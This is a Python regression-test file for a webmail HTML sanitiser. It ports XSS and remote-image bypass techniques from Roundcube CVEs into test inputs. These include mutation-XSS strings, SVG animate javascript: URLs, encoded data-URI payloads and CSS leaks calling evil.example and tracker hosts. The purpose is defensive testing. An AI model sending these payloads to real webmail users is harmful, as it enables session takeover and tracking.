"""Regression tests for the techniques behind Roundcube's sanitiser CVEs since 2020.

Roundcube shows mail in a same-origin frame, so each bypass of its sanitiser
became a session takeover; its advisories are the best catalogue of what
attackers try against a webmail. Each test ports a technique, not Roundcube's
code: the payloads go through ``sanitize_html`` or ``plain_text_to_html`` and
the output must be inert.

Advisories about other parts of a webmail are tested here only for what this
module can guarantee, and say so: attachment serving (Content-Type,
Content-Disposition, nosniff) belongs to the attachment views' tests.
CVE-2020-13964 (the username template object), CVE-2021-44026 (SQL
injection through search), CVE-2024-37384 (list columns from preferences)
and CVE-2025-49113 (deserialisation) have nothing to do with rendering mail
and have no test here. Fixes without a CVE number are named by the Roundcube
release that shipped them.
"""

from __future__ import annotations

import tinycss2

from tests.unit.test_sanitize_corpus import assert_safe_html, parse_as_browser
from webmail.sanitize import plain_text_to_html, sanitize_html


def assert_inert(html: str, **kwargs) -> str:
    """Sanitise ``html``; check the result is safe and a fixed point; return it."""
    out = sanitize_html(html, **kwargs).html
    assert_safe_html(out)
    assert sanitize_html(out).html == out
    return out


def tags(fragment: str) -> set[str]:
    return {element.tag for element in parse_as_browser(fragment).iter()} - {"body"}


def styles(fragment: str) -> list[str]:
    return [
        element.get("style")
        for element in parse_as_browser(fragment).iter()
        if element.get("style")
    ]


def properties(style: str) -> set[str]:
    return {
        node.lower_name
        for node in tinycss2.parse_declaration_list(style, skip_whitespace=True)
        if node.type == "declaration"
    }


def test_cve_2020_12625_script_in_cdata_section():
    """JavaScript inside a CDATA section of an HTML message.

    Outside SVG and MathML a ``<![CDATA[`` is a bogus comment that ends at the
    first ``>``, so markup a sanitiser took for CDATA text is live in the
    browser; inside SVG it really is text. Either way nothing may run.
    """
    for html in (
        "<p><![CDATA[</p><script>alert(1)</script>]]></p>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
        "<math><![CDATA[</math><script>alert(1)</script>]]></math>",
    ):
        out = assert_inert(html)
        assert tags(out) <= {"p", "img"}, out


def test_cve_2020_13965_xml_attachment_preview():
    """An XML attachment previewed as a document runs its script.

    The attachment views decide how attachments are served; what this module
    guarantees is that XML or XHTML content shown as a message body is inert.
    """
    xml = (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>'
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'
        '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(2)">'
        "<script>alert(3)</script><p>text</p></body></html>"
    )
    out = assert_inert(xml)
    assert tags(out) == {"p"}


def test_cve_2020_15562_svg_in_xml_namespace():
    """HTML special characters got through inside an SVG element in the XML namespace.

    SVG goes away whole here, whatever namespace it claims; the prefixed
    forms are unknown elements, removed, whose text is only text.
    """
    for html in (
        '<svg xmlns="http://www.w3.org/1999/xhtml"><style><img src=x onerror=alert(1)></style>',
        '<svg xmlns:xml="http://www.w3.org/XML/1998/namespace"><xml:script>alert(1)'
        "</xml:script></svg>",
        '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>',
        '<html xmlns:svg="http://www.w3.org/2000/svg"><svg:svg><svg:a xlink:href="javascript:'
        'alert(1)">x</svg:a></svg:svg>',
    ):
        out = assert_inert(html)
        assert "svg" not in tags(out) and "script" not in tags(out), out


def test_cve_2020_16145_svg_and_math_namespace_confusion():
    """Markup that changes meaning between the HTML, SVG and MathML parsers.

    A ``<style>`` inside SVG holds elements, inside HTML only text: a
    sanitiser and a browser that disagree about which one applies see
    different documents (mutation XSS).
    """
    for html in (
        '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
        '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) '
        'src=1>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><style><//><body onload=alert(1)>",
    ):
        out = assert_inert(html)
        assert not {"svg", "math", "style", "script"} & tags(out), out


def test_cve_2020_35730_plain_text_link_reference():
    """A text/plain message with markup in its link references (``[label]: url``).

    Here every piece of text is escaped as it is written out, links
    included, so markup in a label or a URL stays text.
    """
    text = (
        "See [1] and [<svg/onload=alert(1)>].\n"
        "[1]: http://example.com/?<script>alert(2)</script>\n"
        '[<img src=x onerror=alert(3)>]: http://example.com/"><script>alert(4)</script>\n'
    )
    out = plain_text_to_html(text)
    assert_safe_html(out)
    assert tags(out) == {"a"}
    assert "".join(parse_as_browser(out).itertext()) == text


def test_cve_2021_26925_css_token_sequences():
    """CSS token sequences that a CSS filter and a browser read differently.

    Escapes, comments, unterminated strings and blocks are used to hide a
    ``url()``, ``expression()`` or a second declaration; the style is
    rebuilt from the declarations that parse, so what is kept is what the
    browser sees.
    """
    for style in (
        "color: red; background: \\75\\72\\6c(http://evil.example/x)",
        "color: red; width: exp/**/ression(alert(1))",
        'color: red; font-family: "a;background-image:url(http://evil.example/x)',
        "color: red; } body { background: url(http://evil.example/x)",
        "color: red; background-image: u&#114;l(http://evil.example/x)",
        "color: red; x: y{background-image: url(http://evil.example/x)}",
    ):
        out = assert_inert(f'<div style="{style}">x</div>')
        for value in styles(out):
            assert properties(value) <= {"color", "font-family"}, value


def test_cve_2021_44025_markup_in_a_filename():
    """Markup in an attachment's filename extension, shown in a warning.

    Names are shown by templates, which escape them; this module's share is
    that text it turns into HTML is escaped.
    """
    name = 'invoice.pdf"><img src=x onerror=alert(1)>.exe'
    out = plain_text_to_html(name)
    assert tags(out) == set()
    assert "".join(parse_as_browser(out).itertext()) == name


def test_cve_2021_46144_css_content_breaking_out_of_style():
    """CSS whose text closes the ``<style>`` element and starts HTML.

    Style sheets are dropped with their content, so what follows a premature
    ``</style>`` is parsed and sanitised like any other markup.
    """
    for html in (
        '<style>a{content:"</style><img src=x onerror=alert(1)>"}</style>',
        "<style>/*</style><script>alert(1)</script>*/</style>",
        '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
    ):
        out = assert_inert(html)
        assert not {"style", "script"} & tags(out), out


def test_cve_2023_5631_svg_use_href_data_uri():
    """``<svg><use href="data:image/svg+xml;base64,...">`` with a script inside.

    The referenced document is an SVG with an ``onerror`` handler; the tab in
    ``s\\tvg`` defeated a check on the media type.
    """
    html = (
        '<svg><use href="dAta:image/s\tvg+xml;base64,PHN2ZyBpZD0ieDIiIHhtbG5zPSJodHRwOi8vd3d3Ln'
        "czLm9yZy8yMDAwL3N2ZyI+IDxpbWFnZSBocmVmPSJ4IiBvbmVycm9yPSJhbGVydCgyMzQpIiAvPjwvc3ZnPg=="
        '#x2"></use></svg>'
    )
    assert assert_inert(html) == ""
    img = '<img src="dAta:image/s\tvg+xml;base64,PHN2Zz4=">'
    assert parse_as_browser(assert_inert(img)).find("img").attrib == {}


def test_cve_2023_43770_text_plain_link_reference():
    """A link reference in a text/plain message: ``[<script>...</script>] https://...``."""
    text = "\n[<script>alert('CVE-2023-43770')</script>] https://roundcube.net\n"
    out = plain_text_to_html(text)
    assert_safe_html(out)
    assert tags(out) == {"a"}
    assert parse_as_browser(out).find("a").get("href") == "https://roundcube.net"


def test_cve_2023_47272_declared_content_type():
    """An attachment whose Content-Type or Content-Disposition header made it render as HTML.

    Serving attachments with safe headers is tested with the attachment
    views. What this module guarantees: markup that declares its own type or
    charset (``<meta http-equiv>``, a UTF-7 body) gets no say once it is
    shown through ``sanitize_html``.
    """
    html = (
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">'
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
        "+ADw-script+AD4-alert(2)+ADw-/script+AD4-"
        '<object data="data:text/html,<script>alert(3)</script>" type="text/html"></object>'
    )
    out = assert_inert(html)
    assert out == "+ADw-script+AD4-alert(2)+ADw-/script+AD4-"


def test_cve_2024_37383_svg_animate_attribute_name():
    """``<animate attributeName="href ">`` turns a link into ``javascript:`` over time.

    The trailing space in ``attributeName`` slipped past a check for
    ``href``; the browser trims it. Animation elements never survive here.
    """
    html = (
        '<svg><animate attributeName="href " values="javascript:alert(origin)" href="#x"/>'
        '<a id="x"><text x="20" y="20">click</text></a></svg>'
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>set</text></a></svg>'
    )
    assert assert_inert(html) == ""


def test_cve_2024_42008_dangerous_content_type_served_inline():
    """An attachment served inline with an attacker-chosen Content-Type.

    How attachments are served is tested with the attachment views; this
    test covers the same documents shown as a message: an HTML attachment
    with a ``<base>``, a script and handlers is inert.
    """
    html = (
        '<base href="https://evil.example/"><script src="/x.js"></script>'
        '<body onload="alert(1)"><a href="relative">r</a>'
        '<img src=x onerror="alert(2)"><iframe srcdoc="<script>alert(3)</script>"></iframe>'
    )
    out = assert_inert(html)
    assert tags(out) == {"a", "img"}
    assert parse_as_browser(out).find(".//a").get("href") is None


def test_cve_2024_42009_desanitization_by_post_processing():
    """Sanitised HTML edited again with regular expressions.

    Roundcube edited the attributes of the sanitised ``<body>`` (its
    ``bgcolor``) with a regular expression; the payload hid ``bgcolor=``
    inside another attribute's value so that the edit split it into new
    attributes, one of them an event handler. Here the output is never
    edited: rewriting happens on the tree, and the output is a fixed point
    of the sanitiser.
    """
    for html in (
        '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes '
        'onanimationstart=alert(origin) foo=bar">Foo</body>',
        '<table bgcolor="x onmouseover=alert(1) y"><tr><td title="bgcolor=a '
        'onclick=alert(2)">x</td></tr></table>',
        '<div title="style=animation-name:x onanimationstart=alert(1)">y</div>',
    ):
        out = assert_inert(html)
        for element in parse_as_browser(out).iter():
            assert set(element.attrib) <= {"title", "bgcolor"}, out
            assert "animation" not in (element.get("style") or "")


def test_cve_2024_42010_css_information_leak():
    """CSS that leaks a page's data or reaches servers (``@import``, attribute selectors).

    Style sheets are dropped whole, so no selector can probe the document;
    style attributes keep no ``url()`` or at-rule, so nothing is fetched.
    """
    html = (
        "<style>@import url(http://evil.example/?leak);"
        "input[value^=a]{background:url(http://evil.example/a)}</style>"
        '<div style="@import url(http://evil.example/x); background: url(/?_task=logout)">x</div>'
        "<div style=\"background-image: image-set('http://evil.example/y' 1x)\">y</div>"
    )
    result = sanitize_html(html)
    assert_safe_html(result.html)
    assert "evil" not in result.html and "url(" not in result.html
    assert result.remote_blocked


def test_roundcube_1_6_12_svg_animate_tag():
    """XSS via SVG's animate tag (Roundcube 1.6.12; reported by CrowdStrike).

    SMIL animation changes an attribute after sanitising: ``values``,
    ``to`` or ``from`` carry the ``javascript:`` URL.
    """
    html = (
        '<svg><a><animate attributeName="xlink:href" begin="0" from="javascript:alert(1)" '
        'to="&"/><circle r="400"/></a></svg>'
        "<svg><animate xlink:href=#xss attributeName=href dur=5s repeatCount=indefinite "
        'keytimes=0;0;1 values="https://example.com?&semi;javascript:alert(1)&semi;0"/>'
        "<a id=xss><text x=20 y=20>XSS</text></a></svg>"
    )
    assert assert_inert(html) == ""


def test_roundcube_1_6_13_svg_feimage_remote_image():
    """Remote-image blocking bypassed with SVG ``<feImage href>`` (Roundcube 1.6.13).

    The sanitiser handled ``feImage`` as a link, not as an image source.
    SVG never survives here, so nothing is fetched.
    """
    html = (
        '<svg><filter id="f"><feImage href="https://tracker.example/open.gif"/></filter>'
        '<rect filter="url(#f)" width="1" height="1"/></svg>'
        '<svg><image href="https://tracker.example/2.gif"/>'
        '<use href="https://tracker.example/sprite.svg#a"/></svg>'
    )
    assert assert_inert(html) == ""


def test_roundcube_1_6_14_fixed_position_with_important():
    """A ``position: fixed`` overlay let through by ``!important`` (Roundcube 1.6.14)."""
    out = assert_inert(
        '<div style="position: fixed !important; top: 0; left: 0; width: 100%; color: red">'
        "Your session expired</div>"
    )
    assert styles(out) == ["width: 100%; color: red"]


def test_roundcube_1_6_14_body_background_attribute():
    """Remote-image blocking bypassed with a crafted ``<body background>`` (Roundcube 1.6.14)."""
    for html in (
        '<body background="https://tracker.example/bg.gif">x</body>',
        '<table background=" https://tracker.example/bg.gif"><tr><td>x</td></tr></table>',
        '<table><tr><td background="&#104;ttps://tracker.example/bg.gif">x</td></tr></table>',
    ):
        out = assert_inert(html)
        assert "tracker" not in out, out


def test_roundcube_1_6_16_css_var_remote_image():
    """Remote-image blocking bypassed with CSS custom properties and ``var()`` (1.6.16)."""
    html = (
        '<div style="--bg: url(https://tracker.example/x.gif); background-image: var(--bg); '
        'background: var(--bg)">x</div>'
    )
    out = assert_inert(html)
    assert "tracker" not in out and "var(" not in out


def test_roundcube_1_7_4_css_declaration_smuggling_with_ampersand():
    """A declaration smuggled in through an ampersand written out unencoded (1.7.4).

    The escapes make the CSS value contain ``&#59;``; written into the
    attribute as-is, the browser would decode it to ``;`` and read a second
    declaration.
    """
    html = (
        '<div style="font-family: a\\26\\23 59\\3b background-image\\3a url(https://t.example/x)">'
        "x</div>"
        '<div style="font-family: &quot;a&amp;#59;background-image:url(https://t.example/y)&quot;">'
        "y</div>"
    )
    out = assert_inert(html)
    for value in styles(out):
        assert properties(value) == {"font-family"}, value
